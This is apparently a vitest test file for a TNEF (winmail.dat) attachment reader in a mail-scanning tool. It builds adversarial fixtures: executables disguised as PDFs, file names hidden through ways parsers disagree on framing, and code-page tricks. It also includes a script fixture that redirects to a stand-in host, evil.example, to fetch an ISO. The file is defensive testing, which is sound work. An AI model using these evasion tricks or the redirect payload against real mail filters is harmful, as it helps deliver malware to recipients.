import { seededRandom } from '@wmflow/local';
import { describe, expect, it } from 'vitest';
import { type TnefFile, tnefStream } from '../testing/tnef.js';
import { zipFile } from '../testing/zip.js';
import { MAX_TNEF_DEPTH, MAX_TNEF_FILES, MAX_TNEF_NAMES, TnefReader } from './tnef.js';

const MZ = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]);
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]);

// A stream with one file whose attAttachment property list is `list` (count first).
const withList = (list: Buffer) => tnefStream([{ title: 'NOTE.TXT', rawProperties: list }]);

const u16 = (n: number) => Buffer.from([n & 0xff, n >> 8]);
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n, 0);
  return b;
};

function read(stream: Buffer, piece = stream.length) {
  const reader = new TnefReader();
  for (let at = 0; at < stream.length; at += piece) {
    if (!reader.push(stream.subarray(at, at + piece))) return undefined;
  }
  return reader.end();
}

describe('the files inside a TNEF stream (winmail.dat)', () => {
  it('names each file by its title, long name and extension, and sniffs its content', () => {
    const stream = tnefStream([
      { title: 'KITTEN~1.JPG', longName: 'kitten playing.jpg', extension: '.jpg', data: JPEG },
      { title: 'INVOIC~1.PDF', longName: 'Invoice 2026.pdf.exe', extension: '.exe', data: MZ },
    ]);
    expect(read(stream)).toEqual({
      names: ['KITTEN~1.JPG', 'kitten playing.jpg', '.jpg', 'INVOIC~1.PDF', 'Invoice 2026.pdf.exe', '.exe'],
      sniffedTypes: ['image/jpeg', 'application/x-msdownload'],
    });
  });

  it('sniffs every content a file carries: repeated attAttachData, PidTagAttachDataBinary', () => {
    const PDF = Buffer.from('%PDF-1.7 harmless');
    // A client that keeps the last attAttachData, or reads the property list's content, runs the executable.
    for (const file of [
      { title: 'REPORT.PDF', data: [PDF, MZ] },
      { title: 'REPORT.PDF', data: PDF, dataProperty: MZ },
      { title: 'REPORT.PDF', data: MZ, dataProperty: PDF },
      // ytnef and Evolution take PidTagAttachDataBinary for an object, and save it from byte 16.
      { title: 'REPORT.PDF', data: PDF, dataProperty: Buffer.concat([PDF.subarray(0, 16), MZ]) },
    ]) {
      expect(read(tnefStream([file]))?.sniffedTypes).toContain('application/x-msdownload');
      expect(read(tnefStream([file]), 3)?.sniffedTypes).toContain('application/x-msdownload');
    }
  });

  it('reads a name property written as binary, as a client that reads any blob as a string does', () => {
    const binary = (bytes: Buffer) => {
      const stream = Buffer.from(tnefStream([{ title: 'REPORT.PDF', extension: 'abcd' }]));
      const at = stream.indexOf(Buffer.from('abcd', 'utf16le'));
      stream.writeUInt16LE(0x0102, at - 12); // PT_UNICODE to PT_BINARY
      bytes.copy(stream, at); // the value's 10 bytes (with its NUL)
      return stream;
    };
    expect(read(binary(Buffer.from('run.hta\0', 'latin1')))?.names).toContain('run.hta');
    expect(read(binary(Buffer.from('a.js\0', 'utf16le')))?.names).toContain('a.js');
  });

  it('reads a TNEF stream held as a file content (attAttachData, PidTagAttachDataBinary), as ytnef does', () => {
    const inner = tnefStream([{ title: 'SETUP.EXE', data: MZ }]);
    const iid = Buffer.alloc(16, 7); // an object's interface id, skipped before the signature
    for (const file of [
      { title: 'NOTE.TXT', data: inner },
      { title: 'NOTE.TXT', data: Buffer.concat([iid, inner]) },
      { title: 'NOTE.TXT', dataProperty: inner },
      { title: 'NOTE.TXT', dataProperty: Buffer.concat([iid, inner]) },
    ]) {
      for (const piece of [1, 5, 1000]) {
        expect(read(tnefStream([file]), piece)).toEqual({
          names: ['NOTE.TXT', 'SETUP.EXE'],
          sniffedTypes: ['application/x-msdownload'],
        });
      }
    }
    let deep: TnefFile = { title: 'DEEP.EXE' };
    for (let d = 0; d <= MAX_TNEF_DEPTH; d++) deep = { data: tnefStream([deep]) };
    expect(read(tnefStream([deep]))?.problem).toMatch(/nest deeper than 8/);
    const cut = tnefStream([{ data: inner.subarray(0, inner.length - 3) }]);
    expect(read(cut)?.problem).toMatch(/attached message: it ends inside an attribute/);
  });

  it('is a problem when its 8-bit names are in a code page that does not spell ASCII as ASCII', () => {
    const withCodePage = (codePage: number, at: 'first' | 'last') => {
      const stream = tnefStream([{ title: 'INVOICE+AC4-EXE' }]); // UTF-7 for INVOICE.EXE
      const value = Buffer.alloc(8);
      value.writeUInt32LE(codePage, 0);
      const head = Buffer.from([0x01, 0x07, 0x90, 0x06, 0x00, 8, 0, 0, 0]); // attOemCodepage, 8 bytes
      const attribute = Buffer.concat([head, value, Buffer.alloc(2)]);
      if (at === 'last') return Buffer.concat([stream, attribute]);
      return Buffer.concat([stream.subarray(0, 6), attribute, stream.subarray(6)]);
    };
    for (const at of ['first', 'last'] as const) {
      for (const codePage of [65000, 1200, 37, 50220, 52936])
        expect(read(withCodePage(codePage, at))?.problem).toMatch(`code page ${codePage}`);
      for (const codePage of [1252, 1251, 437, 932, 65001, 28591])
        expect(read(withCodePage(codePage, at))?.problem).toBeUndefined();
    }
  });

  it('reads a file attribute whatever level it claims (message level, unknown levels)', () => {
    const stream = Buffer.from(tnefStream([{ title: 'INVOICE.EXE' }]));
    const title = stream.indexOf(Buffer.from('INVOICE.EXE'));
    for (const level of [0x01, 0x00, 0x7f]) {
      stream[title - 9] = level;
      expect(read(stream)?.names).toEqual(['INVOICE.EXE']);
    }
  });

  it('reads a file attribute by its name whatever type word its id claims (the tnef tool reads the low 16 bits)', () => {
    const stream = Buffer.from(tnefStream([{ title: 'INVOICE.EXE', data: MZ }]));
    const title = stream.indexOf(Buffer.from('INVOICE.EXE')) - 9;
    const data = stream.indexOf(MZ) - 9;
    for (const type of [0x0000, 0x0006, 0xffff]) {
      stream.writeUInt16LE(type, title + 3); // attAttachTitle's type word (atpString, 0x0001)
      stream.writeUInt16LE(type, data + 3); // attAttachData's (atpByte, 0x0006)
      expect(read(stream)).toEqual({ names: ['INVOICE.EXE'], sniffedTypes: ['application/x-msdownload'] });
    }
  });

  it('reads a named property whose numeric name is a file property as that property (the tnef tool does)', () => {
    const name = Buffer.from('evil.exe\0\0\0\0', 'latin1'); // 9 bytes and padding
    const list = Buffer.concat([
      u32(1),
      u16(0x001e), // PT_STRING8
      u16(0x8001), // a named property…
      Buffer.alloc(16, 1), // …in some property set,
      u32(0), // by number (MNID_ID)…
      u32(0x3707), // …the number of PidTagAttachLongFilename
      u32(1),
      u32(9),
      name,
    ]);
    expect(read(withList(list))?.names).toEqual(['NOTE.TXT', 'evil.exe']);
  });

  it('is a problem when a named property is neither by number nor by string (parsers then disagree)', () => {
    // Kind 2: MS-OXTNEF knows 0 and 1; ytnef and the tnef tool read it as a count of names, and so frame
    // what follows otherwise than this reader: here they find a long file name the reader took for binary.
    const hidden = Buffer.concat([u16(0x001e), u16(0x3707), u32(1), u32(9), Buffer.from('evil.exe\0\0\0\0')]);
    const list = Buffer.concat([
      u32(2),
      u16(0x0003), // PT_LONG, named:
      u16(0x8001),
      Buffer.alloc(16, 1),
      u32(2), // kind 2
      u32(4),
      Buffer.from('a\0b\0'),
      u32(12), // this reader: the PT_LONG's value; theirs: the second name's length (12 bytes skipped)
      u16(0x0102), // this reader: a binary property holding the rest
      u16(0x0ffe),
      u32(1),
      u32(4 + hidden.length),
      u32(0), // theirs: the PT_LONG's value
      hidden, // theirs: PidTagAttachLongFilename evil.exe
    ]);
    expect(read(withList(list))?.problem).toMatch(/named property of kind 2/);
  });

  it('is a problem when a property list holds what ytnef frames otherwise (currency, app time, a second value)', () => {
    const hidden = Buffer.concat([u16(0x001e), u16(0x3707), u32(1), u32(9), Buffer.from('evil.exe\0\0\0\0')]);
    // ytnef reads PT_CURRENCY in 4 bytes, not 8: the other 4 start its next property, a CLSID eating the
    // binary's header, after which it reads a long file name from what this reader took for content.
    const currency = Buffer.concat([
      u32(3),
      u16(0x0006),
      u16(0x0fff),
      u32(0),
      u16(0x0048), // ytnef: PT_CLSID…
      u16(0x0ffc),
      u16(0x0102), // this reader: PT_BINARY 0x0ffe, one value of 4 + hidden bytes
      u16(0x0ffe),
      u32(1),
      u32(4 + hidden.length),
      u32(0),
      hidden,
      u16(0x0003),
      u16(0x0ffd),
      u32(0),
    ]);
    expect(read(withList(currency))?.problem).toMatch(/type 0x0006 that readers frame differently/);
    // ytnef reads one value of a single-valued binary whatever count it claims: the second value's length
    // (258) is its next property's tag (PT_BINARY 0x0000), whose content holds a long file name.
    const second = Buffer.concat([
      u32(3),
      u16(0x0102),
      u16(0x0ffe),
      u32(2), // two values
      u32(4),
      u32(0),
      u32(258),
      u32(1), // ytnef: count, then size 0
      u32(0),
      hidden,
      Buffer.alloc(260 - 8 - hidden.length), // 258 bytes, padded to 260
      u16(0x0003),
      u16(0x0ffd),
      u32(0),
      u16(0x0003),
      u16(0x0ffc),
      u32(0),
    ]);
    expect(read(withList(second))?.problem).toMatch(/single-valued property with 2 values/);
  });

  it('reads the same whatever the pieces the bytes arrive in', () => {
    const stream = tnefStream([
      { title: 'A.TXT', data: Buffer.from('plain text') },
      { longName: 'run.vbs', data: Buffer.from('MsgBox 1') },
      { message: [{ title: 'INNER.EXE', data: MZ }] },
    ]);
    const whole = read(stream);
    expect(whole?.names).toEqual(['A.TXT', 'run.vbs', 'INNER.EXE']);
    for (const piece of [1, 2, 3, 7, 64]) expect(read(stream, piece)).toEqual(whole);
  });

  it('reads the files of attached messages inside, to a depth', () => {
    const inner = { message: [{ title: 'DEEP.EXE', data: MZ }] };
    expect(read(tnefStream([inner]))).toEqual({
      names: ['DEEP.EXE'],
      sniffedTypes: ['application/x-msdownload'],
    });
    let nested: TnefFile = { message: [{ title: 'DEEP.EXE' }] };
    for (let d = 0; d < MAX_TNEF_DEPTH; d++) nested = { message: [nested] };
    expect(read(tnefStream([nested]))?.problem).toMatch(/nest deeper than 8/);
  });

  it('reads past a wrong signature when told to (a part declared TNEF)', () => {
    const stream = Buffer.concat([Buffer.from('MIME'), tnefStream([{ title: 'EVIL.EXE' }]).subarray(4)]);
    expect(read(stream)).toBeUndefined();
    const reader = new TnefReader(0, true);
    expect(reader.push(stream)).toBe(true);
    expect(reader.end()).toEqual({ names: ['EVIL.EXE'], sniffedTypes: [] });
  });

  it('is not read when the bytes do not start as TNEF', () => {
    expect(read(Buffer.from('PK\x03\x04 a zip file', 'latin1'))).toBeUndefined();
    expect(read(MZ)).toBeUndefined();
    // Fewer bytes than a signature: nothing inside, no problem.
    expect(read(Buffer.from([0x78, 0x9f]))).toEqual({ names: [], sniffedTypes: [] });
    expect(new TnefReader().end()).toEqual({ names: [], sniffedTypes: [] });
  });

  it('is a problem when it cannot be read whole: cut short, too large, too many files, an OLE object', () => {
    const stream = tnefStream([{ title: 'A.EXE', data: MZ }]);
    for (const cut of [7, 20, stream.length - 1]) {
      expect(read(stream.subarray(0, cut))?.problem).toMatch(/ends inside an attribute/);
    }
    const huge = Buffer.from(tnefStream([{ title: 'A.EXE' }]));
    // The title's length field claims more than 8 MiB.
    const title = huge.indexOf(Buffer.from('A.EXE'));
    huge.writeUInt32LE(9 * 1024 * 1024, title - 4);
    expect(read(huge)?.problem).toMatch(/attribute of 9437184 bytes is over 8388608/);
    const many = tnefStream(Array.from({ length: MAX_TNEF_FILES + 1 }, () => ({ title: 'X.TXT' })));
    expect(read(many)?.problem).toMatch(/more than 1000 files/);
    expect(read(tnefStream([{ title: 'DOC.DOC', method: 6 }]))?.problem).toMatch(/OLE object/);
  });

  it('is a problem past a number of names, however few files hold them (no work that grows as their square)', () => {
    // One file, its title attribute repeated: each distinct name used to be compared with every other one.
    const titles = (count: number) => {
      const one = tnefStream([{ title: 'A.TXT' }]);
      const title = one.subarray(one.indexOf(Buffer.from('A.TXT')) - 9);
      const repeated = Array.from({ length: count }, (_, n) => {
        const copy = Buffer.from(title);
        copy.write(String(n % 100000).padStart(5, '0'), 9, 'latin1');
        return copy;
      });
      return Buffer.concat([one, ...repeated]);
    };
    expect(read(titles(MAX_TNEF_NAMES - 1))).toMatchObject({ names: { length: MAX_TNEF_NAMES } });
    expect(read(titles(MAX_TNEF_NAMES - 1))?.problem).toBeUndefined();
    expect(read(titles(MAX_TNEF_NAMES))?.problem).toMatch(/more than 10000 names/);
  });

  it('cuts trailing NULs off a name in one pass, however long a run of NULs inside it', () => {
    // `/\0+$/` retried the run from each of its NULs: a 1 MiB run not at the end took minutes.
    const inner = `${'\0'.repeat(1024 * 1024)}x`;
    const names = read(tnefStream([{ title: `${inner}\0\0`, longName: `${inner}y` }]))?.names;
    expect(names?.map((name) => name.length)).toEqual([inner.length, inner.length + 1]);
  });

  it('is a problem when a property list claims more than it holds, or a type it does not know', () => {
    const stream = Buffer.from(tnefStream([{ longName: 'a.exe' }]));
    const name = stream.indexOf(Buffer.from('a.exe', 'utf16le'));
    const claimed = Buffer.from(stream);
    claimed.writeUInt32LE(0x7fffffff, name - 4); // the string's length
    expect(read(claimed)?.problem).toMatch(/property list ends before/);
    const unknown = Buffer.from(stream);
    unknown.writeUInt16LE(0x0fff, name - 12); // the property's type
    expect(read(unknown)?.problem).toMatch(/unknown type 0x0fff/);
  });

  it('never throws and always ends on any bytes after a TNEF signature (5,000 generated streams)', () => {
    const random = seededRandom(15);
    const inner = tnefStream([{ title: 'C.EXE', data: MZ }]);
    const valid = tnefStream([
      {
        title: 'A.EXE',
        longName: 'a.exe',
        data: [MZ, inner],
        dataProperty: Buffer.concat([MZ.subarray(0, 16), inner]),
      },
      { message: [{ title: 'B.VBS' }] },
    ]);
    for (let n = 0; n < 5000; n++) {
      const bytes = Buffer.from(valid);
      // Mutate a few bytes past the signature: lengths, types, counts, levels.
      for (let k = 0; k < 1 + Math.floor(random() * 4); k++) {
        bytes[4 + Math.floor(random() * (bytes.length - 4))] = Math.floor(random() * 256);
      }
      const cut = random() < 0.3 ? Math.floor(random() * bytes.length) : bytes.length;
      const result = read(bytes.subarray(0, Math.max(cut, 4)), 1 + Math.floor(random() * 50));
      expect(result).toBeDefined();
      expect(Array.isArray(result?.names)).toBe(true);
    }
  });
});

describe('a file named many times (review of attacker round 68)', () => {
  // The names a file is saved under decide whether a page inside the zip it holds is exempt as an Office part:
  // every name must be an Office document's. They were kept to the first 10,000, repeats included, so 10,000 copies
  // of `REPORT.DOCX` pushed `INVOICE.ZIP` out and the zip's script page passed as `word/document.xml`.
  const XHTML =
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
    '<script>location = "https://evil.example/x.iso"</script></body></html>';
  const titleAttribute = (name: string) => {
    const one = tnefStream([{ title: name }]);
    return one.subarray(one.indexOf(Buffer.from(name)) - 9);
  };
  const named = (...titles: string[]) => {
    const zip = zipFile([{ name: 'word/document.xml', data: XHTML }]);
    const repeated = new Map<string, Buffer>();
    const attribute = (t: string) =>
      repeated.get(t) ?? repeated.set(t, titleAttribute(t)).get(t) ?? Buffer.alloc(0);
    return Buffer.concat([tnefStream([{ title: 'REPORT.DOCX', data: zip }]), ...titles.map(attribute)]);
  };

  it('counts a name once however often it is given, and every distinct name', () => {
    // Control: named as a Word document only, its parts are XML no one browses.
    expect(read(named('REPORT.DOCX'))?.problem).toBeUndefined();
    expect(read(named('INVOICE.ZIP'))?.problem).toMatch(/runs when opened/);
    const padded = [...Array.from({ length: MAX_TNEF_NAMES }, () => 'REPORT.DOCX'), 'INVOICE.ZIP'];
    expect(read(named(...padded))?.problem).toMatch(/runs when opened/);
  });

  it('is a problem past the bound of distinct names for one file', () => {
    const many = Array.from({ length: MAX_TNEF_NAMES + 1 }, (_, n) => `R${String(n).padStart(5, '0')}.DOCX`);
    expect(read(named(...many))?.problem).toMatch(/more than 10000 names/);
  });
});
